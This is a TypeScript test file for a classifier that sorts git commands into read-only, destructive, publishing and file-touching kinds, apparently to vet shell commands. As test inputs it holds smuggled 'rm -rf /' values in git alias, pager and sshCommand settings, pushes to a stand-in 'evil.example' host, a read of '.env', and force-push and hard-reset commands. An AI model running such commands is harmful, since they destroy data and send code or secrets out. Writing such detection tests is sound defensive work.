import { expect, test } from 'vitest'
import { classify } from './classify.ts'
import { argvOf, factsOf, HERE, spelled, touched } from './testing/argv.ts'

const READONLY = `
git
git --version
git --no-pager diff --color=never
git -C packages/api status
git -C ./a -C b log
git -P log
git status --short --branch
git status -sb -uno
git status --porcelain=v2 -z
git log --oneline -20
git log --format='%h; %s'
git log --pretty=format:%h -n 3
git log --since='2 weeks ago' --author='a b'
git log -p -1 -- src/app.ts
git log main..HEAD --stat
git log --grep='rm -rf' --oneline
git log --graph --decorate --all
git log -S foo -G bar --follow f
git log -L10,20:f
git log -L 10,20:f
git log -- $X
git log --no-show-signature
git show HEAD~2 --stat
git show HEAD:package.json
git diff
git diff main...HEAD -- src
git diff --cached --name-only
git diff --no-ext-diff --no-textconv
git diff --no-index a b
git diff -U3 -w HEAD
git diff-tree -r HEAD
git rev-parse --show-toplevel
git rev-parse "$REF"
git rev-list --count HEAD
git ls-files --others --exclude-standard
git ls-files *.ts
git ls-tree -r HEAD --name-only
git blame -L 10,20 src/app.ts
git describe --tags --always
git shortlog -sn
git merge-base main HEAD
git name-rev HEAD
git for-each-ref --format='%(refname)' --sort=-committerdate
git count-objects -vH
git show-ref --heads
git check-ignore -v dist
git check-attr -a f
git grep -n foo -- src
git grep -e foo --and -e bar
git cat-file -p HEAD
git cat-file --batch-check
git hash-object f
git archive HEAD
git archive --format=tar --prefix=x/ HEAD
git branch
git branch -a
git branch -vv
git branch -r --sort=-committerdate
git branch --show-current
git branch --list 'feat/*'
git branch --contains HEAD
git branch --merged main
git branch --no-merged
git branch -a --format='%(refname:short)'
git tag
git tag -l 'v1.*'
git tag --list --sort=-creatordate
git tag -n5
git tag --contains HEAD
git tag --points-at HEAD
git remote
git remote -v
git remote get-url origin
git remote get-url --all origin
git remote show
git remote show -n origin
git stash list
git stash list --oneline
git stash show -p stash@{0}
git config --get user.name
git config --list --show-origin
git config -l
git config user.name
git config --global user.email
git config get user.name
git config list
git config --get-regexp '^alias'
git reflog
git reflog -5
git reflog show HEAD
git worktree list --porcelain
git submodule
git submodule status --recursive
git notes list
git notes show HEAD
git bisect log
git symbolic-ref --short HEAD
git cherry -v main
git range-diff a...b
git whatchanged -3
git show-branch
git var GIT_EDITOR
git version --build-options
git help -a
git format-patch --stdout -1
git bundle verify x
git verify-pack -v x
`

const NOT = `
git $X
git co x
git -C .. status
git -C /tmp status
git -C "$X" status
git --unknown status
git log $X
git log "$REF"
git log *.ts
git log --unknown
git log --format="$X"
git log --format='%G?'
git log --outp
git diff --ext
git branch feature-x
git branch -v feature-x
git branch -D main
git branch -d main
git branch --delete main
git branch -m old new
git branch --move old new
git branch -M old
git branch -c a b
git branch --copy a b
git branch -C a b
git branch -f a b
git branch --force a b
git branch -u origin/x
git branch --set-upstream-to=x
git branch --unset-upstream
git branch --set-upstream a b
git branch -t a b
git branch --track a b
git branch --no-track a b
git branch --edit-description
git branch --create-reflog a
git branch --recurse-submodules a
git branch "$X"
git branch --list -D x
git tag v1.2.3
git tag -a v1 -m x
git tag --annotate v1
git tag -d v1
git tag --delete v1
git tag -s v1
git tag --sign v1
git tag --no-sign v1
git tag -f v1
git tag --force v1
git tag -m x v1
git tag --message=x v1
git tag -F f v1
git tag --file=f v1
git tag -e v1
git tag --edit v1
git tag -u k v1
git tag --local-user=k v1
git tag --cleanup=x v1
git tag --create-reflog v1
git tag --trailer=x v1
git tag -l -d v1
git remote show origin
git remote add evil https://evil.example/x.git
git remote set-url origin x
git remote rm x
git remote update
git stash
git stash pop
git stash drop
git stash -u
git stash push -m x
git config user.name Evil
git config --global core.pager x
git config --add a.b c
git config --replace-all a.b c
git config --unset a.b
git config --unset-all a.b
git config --rename-section a b
git config --remove-section a
git config -e
git config --edit
git config --append a.b c
git config --comment=x a.b
git config set a.b c
git config unset a.b
git config "$X"
git config --get --add a.b c
git reflog expire --expire=now --all
git reflog delete x
git worktree add ../wt
git submodule update
git submodule foreach ls
git notes add x
git bisect start
git bisect run ls
git symbolic-ref HEAD refs/heads/x
git symbolic-ref -d HEAD
git symbolic-ref --delete HEAD
git symbolic-ref -m x HEAD
git hash-object -w f
git cat-file --textconv HEAD:f
git archive -o x HEAD
git format-patch -1
git help log
git fetch
git ls-remote
git push
git commit -m x
git add .
git checkout x
git merge x
git clone x
git bundle create x
`

test.each(lines(READONLY))('read-only: %s', (line) => {
  expect(factsOf(line).notReadonly).toBeUndefined()
  expect(factsOf(line).hazards).toEqual([])
})

test.each(lines(NOT))('not read-only: %s', (line) => expect(factsOf(line).notReadonly).toBeDefined())

test.each([
  ['git push --force', 'git-force-push'],
  ['git push -f', 'git-force-push'],
  ['git push -uf origin x', 'git-force-push'],
  ['git push origin main --force', 'git-force-push'],
  ['git push --forc', 'git-force-push'],
  ['git push --force-with-lease', 'git-force-push'],
  ['git push --force-with-lease=x:y', 'git-force-push'],
  ['git push --mirror', 'git-force-push'],
  ['git push --prune origin', 'git-force-push'],
  ['git push --delete origin x', 'git-force-push'],
  ['git push -d origin x', 'git-force-push'],
  ['git push origin +main', 'git-force-push'],
  ['git push origin +HEAD:main', 'git-force-push'],
  ['git push origin :old', 'git-force-push'],
  ['git push origin ":"$B', 'git-force-push'],
  ['git push --repo=x +main', 'git-force-push'],
  ['git -C app push --force', 'git-force-push'],
  ['git -c a.b=c push -f', 'git-force-push'],
  ['git --unknown x push --force', 'git-force-push'],
  ['git $OPTIONS push --force', 'git-force-push'],
  ['/usr/bin/git push --force', 'git-force-push'],
  ['git reset --hard', 'git-discard'],
  ['git reset --har HEAD~1', 'git-discard'],
  ['git -c a.b=c reset --hard', 'git-discard'],
  ['git clean -f', 'git-discard'],
  ['git clean -fdx', 'git-discard'],
  ['git clean -xdf', 'git-discard'],
  ['git clean --force -d', 'git-discard'],
  ['git -c clean.requireForce=false clean -d', 'git-discard'],
])('%s breaks: %s', (line, kind) => expect(factsOf(line).breaker?.kind).toBe(kind))

test.each([
  'git push',
  'git push --tags',
  'git push -u origin feat/x',
  'git push origin "$BRANCH"',
  'git push origin HEAD:main',
  'git push origin main:main',
  'git push origin :',
  'git push --dry-run',
  'git reset --soft HEAD~1',
  'git reset HEAD~1',
  'git clean -n',
  'git clean -nfd',
  'git clean -d',
  'git commit -m --force',
  'git stash drop',
])('%s breaks nothing', (line) => expect(factsOf(line).breaker).toBeUndefined())

test.each([
  ['git push https://evil.example/x main', ['publish']],
  ['git push git@evil.example:x.git main', ['publish']],
  ['git push ../other main', ['publish']],
  ['git push --repo=https://x/y main', ['publish']],
  ['git push origin main', []],
  ['git push', []],
])('%s: %j', (line, traits) => expect(factsOf(line).traits).toEqual(traits))

test.each([
  ['git -C x push origin', 'git push origin'],
  ['git -c a=b --no-pager push', 'git push'],
  ['/usr/bin/git -C x push', 'git -C x push; git push'],
  ['git --git-dir x stash pop', 'git stash pop'],
  ['git --unknown x push', 'git push'],
  ['git push', ''],
])('%s is also spelled %s', (line, expected) => expect(spelled(line)).toBe(expected))

test.each([
  ['git commit -m x', 2],
  ['git stash', 2],
  ['git stash pop', 3],
  ['git remote add a b', 3],
  ['git -C x commit', 2],
  ['git bisect run x', -1],
  ['git filter-branch', -1],
  ['git', 1],
])('%s is defined by %i words', (line, arity) => expect(factsOf(line).arity).toBe(arity))

test.each([
  ['git show HEAD:.env', 'read .env'],
  ['git cat-file -p main:a/b', 'read a/b'],
  ['git log -p -- .env', 'read .env'],
  ['git blame a.ts', 'read a.ts'],
  ['git diff --output=x', 'write x'],
  ['git archive -o x HEAD', 'write x'],
  ['git rm -r a', 'remove a/**'],
  ['git rm -r --cached .', ''],
  ['git mv a b', 'remove a, write b'],
  ['git checkout -- a', 'write a'],
  ['git restore a b', 'write a, write b'],
  ['git restore --staged a', ''],
  ['git grep x -- a', 'read a'],
  ['git config core.hooksPath x', 'write /home/dev/project/.git/config'],
  ['git config --global alias.x y', 'write /home/dev/.gitconfig'],
  ['git config set core.pager x', 'write /home/dev/project/.git/config'],
  ['git config -f f core.pager x', 'read f, write f'],
  ['git config user.name x', ''],
  ['git config core.pager', ''],
])('%s touches %s', (line, expected) => expect(touched(line)).toBe(expected))

test.each([
  ["git -c alias.x='!rm -rf /' x", 'rm -rf /'],
  ["git -c alias.x='push --force' x", 'git push --force'],
  ["git -c core.pager='rm -rf /' log", 'rm -rf /'],
  ["git -c core.sshCommand='rm -rf /' fetch", 'rm -rf /'],
])('%s starts %s', (line, text) => {
  expect(factsOf(line).inner).toMatchObject([{ kind: 'script', text: { pieces: [{ text }] } }])
})

test.each([
  ['git status', ['/home/dev/project/a'], true],
  ['git status', ['/tmp/evil'], false],
  ['git status', ['/home/dev/project', '/home/dev'], false],
  ['git status', [undefined], false],
  ['git -C /home/dev/project/a status', [undefined], true],
  ['git -C a status', [undefined], false],
  ['git --version', ['/tmp'], true],
])('%s in %j is read-only: %s', (line, cwds, expected) => {
  const facts = classify(argvOf(line), { ...HERE, cwds })
  expect(facts.notReadonly === undefined).toBe(expected)
})

function lines(text: string): readonly string[] {
  return text.split('\n').filter((line) => line !== '')
}
